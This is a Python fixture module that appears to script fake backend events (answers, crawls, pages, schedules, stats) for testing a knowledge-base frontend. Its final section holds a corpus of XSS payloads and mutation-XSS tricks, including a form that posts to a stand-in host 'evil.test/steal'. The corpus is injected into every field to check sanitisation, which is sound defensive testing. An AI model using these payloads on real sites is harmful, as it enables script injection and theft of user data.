"""What the played brain says: answers, crawls, pages, figures, and a corpus of hostile text."""

from __future__ import annotations

from typing import Any

Step = tuple[float, str, dict[str, Any]]  # (seconds before, type, data)

MARKDOWN = """# Adding knowledge

The brain answers from pages that it has read. There are several ways to give it some.

## A website

To add a website, open **Knowledge** and enter its address under *Add a website*. The brain follows the links of \
that site, keeps to its robots.txt and stops at the number of pages you set. From a terminal the same is \
`omeruta crawl https://docs.example.org --max-pages 100`.

While it reads you see true counts: found, fetched, stored, embedded and failed 🌱. Failures are listed with reasons.

## A single page or a file

- One address can be added by itself.
- HTML, Markdown, text, PDF and Word files can be uploaded.

## Deleting

A deleted page is gone from every index at once, and answers no longer use it.
"""
QUOTE_1 = (
    "To add a website, open **Knowledge** and enter its address under *Add a website*. The brain follows the "
    "links of that site, keeps to its robots.txt and stops at the number of pages you set."
)
QUOTE_2 = "Failures are listed with reasons."
RESPONSE = [
    "Open Knowledge, enter the address of the site under “Add a website” and start. [1] ",
    "The brain follows the links of that site and stops at the number of pages you set. [1]\n\n",
    "While it reads you see true counts, and what could not be read is listed with its reason. [2]",
]


def source(n: int, quote: str) -> dict[str, Any]:
    start = MARKDOWN.index(quote)
    return {
        "n": n, "title": "Adding knowledge", "url": "https://docs.example.org/guide/adding-knowledge",
        "quote": quote, "score": 0.91, "page_id": 1, "start": start, "end": start + len(quote),
    }  # fmt: skip


SOURCES = [source(1, QUOTE_1), source(2, QUOTE_2)]


def result(**changes: Any) -> dict[str, Any]:
    text = "".join(RESPONSE)
    html = "".join(f"<p>{part}</p>" for part in text.split("\n\n"))
    return {
        "response": text, "response_html": html, "model_used": "SmolLM2-135M-Instruct",
        "selected_agent": "qa", "routing_score": 0.93, "routing_reason": "it asks how something is done",
        "context_used": True, "context_sources": 2, "sources": SOURCES, "confidence_score": 0.87,
        "processing_time": 1.9, "user_id": "u1", "processed_async": True, "knowledge_expanded": False, "notes": [],
        **changes,
    }  # fmt: skip


def answer(kind: str, question: str) -> list[Step]:
    """The events of an answer, chosen by a word in the question."""
    begin: list[Step] = [
        (0.02, "task_started", {"message": "Your question is being answered."}),
        (0.05, "task_update", {"progress": 10, "message": "Analysing the question"}),
    ]
    if "fail" in question:
        error = "The model ran out of memory. Nothing was lost; please try again."
        return [*begin, (0.1, "task_failed", {"error": error})]
    if "attack" in question:
        return [*begin, *attack()]
    routed = {"selected_agent": "qa", "confidence": 0.93, "reason": "it asks how something is done"}
    steps: list[Step] = [
        *begin,
        (0.1, "agent_routed", routed),
        (0.05, "task_update", {"progress": 40, "message": "Found 2 sources"}),
        (0.1, "sources", {"sources": SOURCES}),
        (0.1, "task_update", {"progress": 75, "message": "Writing the answer"}),
    ]
    if "slow" in question:
        steps += [
            (1.0, "task_update", {"progress": 75 + n, "message": f"Writing, part {n}"})
            for n in range(1, 20)
        ]
    for at, text in enumerate(RESPONSE):
        steps.append((0.25, "token", {"text": text}))
        if "drop" in question and at == 0:
            steps.append((0.05, "drop", {}))
    done = result()
    if kind == "research_topic":
        info = {"urls_crawled": 6, "pages_added": 5, "chunks_added": 61, "failed": 1}
        steps.append((0.1, "knowledge_expanded", {"expansion_info": info}))
        done = result(
            selected_agent="research", knowledge_expanded=True, expansion_info=info,
            quality_assessment={"score": 0.74, "parts": {"depth": 0.8, "structure": 0.7, "age": 0.72}},
        )  # fmt: skip
    return [
        *steps,
        (0.1, "task_update", {"progress": 80, "message": "Finishing"}),
        (0.1, "task_completed", {"result": done}),
    ]


def crawl() -> list[Step]:
    """Growing counts, with two failures."""
    steps: list[Step] = []
    for n in range(1, 9):
        counts = {
            "found": 12 + 2 * n,
            "fetched": 3 * n,
            "stored": 3 * n - 2,
            "embedded": max(0, 3 * n - 6),
            "failed": min(2, n // 2),
        }
        steps.append(
            (
                0.25,
                "task_update",
                {
                    "progress": 11 * n,
                    "message": f"Reading docs.example.org, page {3 * n}",
                    "counts": counts,
                },
            )
        )
    counts = {"found": 28, "fetched": 28, "stored": 26, "embedded": 26, "failed": 2}
    failures = [
        {
            "url": "https://docs.example.org/private/",
            "reason": "robots",
            "message": "is not allowed by the site's robots.txt",
        },
        {"url": "https://docs.example.org/old", "reason": "http_404", "message": "answered 404"},
    ]
    steps.append((0.3, "task_update", {"progress": 100, "counts": counts}))
    return [*steps, (0.1, "task_completed", {"result": {"counts": counts, "failures": failures}})]


# ---- hostile text: each part tries to run a script, to fetch from elsewhere, or to leave its place

EVIL = "https://evil.test"
CORPUS = [
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=2>",
    f"<img src={EVIL}/pixel.png>",
    "<svg onload=window.pwned=3><animate onbegin=window.pwned=4 attributeName=x dur=1s></svg>",
    '<a href="javascript:window.pwned=5" id=trap>press</a>',
    '<a href="&#106;ava&#9;script:window.pwned=6">press</a>',
    '<a href="data:text/html,<script>parent.pwned=7</script>">press</a>',
    f'<iframe src="{EVIL}/frame" srcdoc="<script>parent.pwned=8</script>"></iframe>',
    f'<form action="{EVIL}/steal"><button>go</button></form>',
    f"<style>@import url({EVIL}/a.css); body {{ background: url({EVIL}/b.png) }}</style>",
    f'<link rel=stylesheet href="{EVIL}/c.css"><base href="{EVIL}/"><meta http-equiv=refresh content="0;url={EVIL}">',
    f'<p style="background:url({EVIL}/d.png)" onclick=window.pwned=9 onmouseover=window.pwned=10>text</p>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=11&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=window.pwned=12>"></noscript>',
    "<template><img src=x onerror=window.pwned=13></template>",
    f"<video src={EVIL}/e.mp4 poster={EVIL}/f.png autoplay></video><object data={EVIL}/g></object><embed src={EVIL}/h>",
    "<details open ontoggle=window.pwned=14><summary>x</summary></details>",
    "<input autofocus onfocus=window.pwned=15><select autofocus onfocus=window.pwned=16>",
    f"![pixel]({EVIL}/i.png) [press](javascript:window.pwned=17) <{EVIL}/auto>",
    '"><script>window.pwned=18</script><x y="',
    "<b>" * 5000 + "deep",
]
HOSTILE = "\n".join(CORPUS)


def hostile_sources() -> list[dict[str, Any]]:
    many = [
        {
            "n": n,
            "title": text[:300],
            "url": "javascript:window.pwned=20",
            "quote": text[:2000],
            "score": 1,
            "page_id": 66,
        }
        for n, text in enumerate(CORPUS, 1)
    ]
    return [{**SOURCES[0], "title": HOSTILE[:500], "page_id": 66, "start": 0, "end": 40}, *many]


def attack() -> list[Step]:
    bad = hostile_sources()
    done = result(
        response=HOSTILE, response_html=HOSTILE, sources=bad, model_used=CORPUS[1], selected_agent=CORPUS[1],
        routing_reason=CORPUS[0], notes=CORPUS[:3], knowledge_expanded=True,
        expansion_info={"failed": [CORPUS[1]], "pages_added": 1},
        quality_assessment={CORPUS[1]: CORPUS[0], "score": 0.5, "parts": {CORPUS[2]: [CORPUS[1]]}},
    )  # fmt: skip
    return [
        (
            0.05,
            "agent_routed",
            {"selected_agent": CORPUS[1], "confidence": 0.5, "reason": CORPUS[0]},
        ),
        (0.05, "task_update", {"progress": 40, "message": CORPUS[1], "detail": CORPUS[0]}),
        (0.05, "sources", {"sources": bad}),
        *[(0.01, "token", {"text": text}) for text in CORPUS],
        (0.4, "task_completed", {"result": done}),
    ]


def pages(fetched_at: str) -> list[dict[str, Any]]:
    base = {
        "language": "en", "status": "active", "fetched_at": fetched_at, "words": 128, "chunks": 4,
        "is_processed_for_embeddings": True, "freshness": {"score": 0.9, "next_visit": None},
    }  # fmt: skip
    quality = {
        "score": 0.82,
        "parts": {"structure": 0.9, "length": 0.7},
        "reasons": ["clear headings"],
    }
    plain = {
        **base, "id": 1, "title": "Adding knowledge", "url": SOURCES[0]["url"], "quality": quality,
        "clean_markdown": MARKDOWN, "html": "<h1>Adding knowledge</h1><p>The brain answers from pages that it has read.</p>",
    }  # fmt: skip
    more = [
        {
            **plain,
            "id": n,
            "title": title,
            "url": f"https://docs.example.org/guide/{n}",
            "words": 90 * n,
        }
        for n, title in enumerate(
            ["How answers are made", "Where data is kept", "Backups and restore"], 2
        )
    ]
    evil = {
        **base, "id": 66, "title": CORPUS[1], "url": "javascript:window.pwned=30", "quality": {"score": 0.1, "parts": {CORPUS[1]: 1}},
        "clean_markdown": HOSTILE, "html": HOSTILE, "language": CORPUS[1],
    }  # fmt: skip
    return [plain, *more, evil]


def hits() -> list[dict[str, Any]]:
    return [{**SOURCES[0], "text": QUOTE_1, "chunk_id": 7, "heading": "A website"}]


def schedules(last: str, coming: str) -> list[dict[str, Any]]:
    told = [
        ("clean_up", "0 * * * *", "Clean up expired results, statuses and temporary data"),
        ("embed_pending", "*/30 * * * *", "Index pages that are not indexed yet"),
        ("refresh_stale", "0 2 * * *", "Read old pages again"),
        ("assess_quality", "0 3 * * 1", "Judge the quality of pages"),
    ]
    return [
        {"name": name, "cron": cron, "kind": name, "description": text, "enabled": True,
         "last_fired_at": last, "next_fire_at": coming, "last_task_id": None}
        for name, cron, text in told
    ]  # fmt: skip


STATS: dict[str, Any] = {
    "knowledge": {
        "pages": 1284, "active": 1250, "duplicates": 31, "gone": 3, "sites": 14, "words": 912_345, "chunks": 9_412,
        "vectors": 9_412, "mean_quality": 0.71, "bytes": {"knowledge.sqlite3": 48_300_000, "vectors.faiss": 3_900_000, "total": 52_200_000},
        "growth": [{"day": f"2026-11-{n:02}", "pages": (n * 37) % 90} for n in range(1, 23)],
        "index": {"kind": "exact", "vectors": 9_412, "dim": 384, "embedder": "all-MiniLM-L6-v2/torch/bfloat16/384", "generation": 1},
    },
    "queues": {
        name: {"priority": priority, "limit": limit, "waiting": 0, "running": n, "oldest": None}
        for n, (name, priority, limit) in enumerate(
            [("ai_high_priority", 9, 8), ("ai_processing", 6, 2), ("crawling", 4, 3), ("embeddings", 3, 1)]
        )
    },
    "models": {
        "language_model": "SmolLM2-135M-Instruct (Q8_0)",
        "embedder": {"model": "all-MiniLM-L6-v2", "dim": 384, "backend": "torch", "dtype": "bfloat16"},
    },
    "something_new": {"unknown_field": True, "another": [1, 2, 3]},
}  # fmt: skip
